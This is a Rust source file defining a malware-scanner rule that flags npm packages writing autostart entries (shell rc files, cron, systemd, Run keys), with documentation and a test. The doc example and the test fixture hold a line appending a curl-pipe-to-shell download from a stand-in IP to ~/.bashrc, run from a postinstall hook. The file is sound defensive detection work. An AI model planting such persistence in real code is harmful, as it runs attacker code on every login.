//! `persistence`: autostart entries (shell rc files, cron, systemd/launchd, Run keys).

use crate::declare_rule;
use crate::detect::behavior::{Technique, report_technique};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::PackageFacts;

declare_rule! {
    /// ## What it does
    /// Flags code that makes itself start again later: writes to shell startup files (`~/.bashrc`,
    /// `~/.zshrc`, `~/.profile`), cron (`crontab -`), systemd or launchd units, the Windows Run key
    /// (`reg add …\\CurrentVersion\\Run`), the Startup folder or scheduled tasks.
    ///
    /// ## Why is this a risk?
    /// Persistence survives the package's removal: the payload runs on every login or boot, long
    /// after `npm uninstall`.
    ///
    /// ## Example
    /// ```js
    /// require('fs').appendFileSync(require('os').homedir() + '/.bashrc',
    ///   '\\n(curl -fsSL http://198.51.100.66/u.sh | sh &)\\n');
    /// ```
    ///
    /// ## False positives
    /// Shell-completion installers (`tabtab`) write to `~/.bashrc` when the user asks; they are
    /// monitored. Install-time writes, or writes whose content downloads or calls home, warn.
    ///
    /// ## References
    /// - GuardDog `threat-filesystem-autostart`; MITRE ATT&CK T1546.004, T1053.003, T1547.001
    Persistence, id = "persistence", category = Malicious, severity = High, action = Warn,
}

impl Rule for Persistence {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        report_technique(&Self::META, Technique::Persistence, pkg, cx);
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn persistence() {
        Tester::new(super::Persistence)
            .pass_package([("index.js", "const fs = require('fs');\nfs.writeFileSync('out/.profile.json', '{}');")])
            .fail_package([
                ("package.json", "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}"),
                ("i.js", "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', '\\n(curl -fsSL http://198.51.100.66/u.sh | sh &)\\n');"),
            ])
            .test_and_snapshot();
    }
}
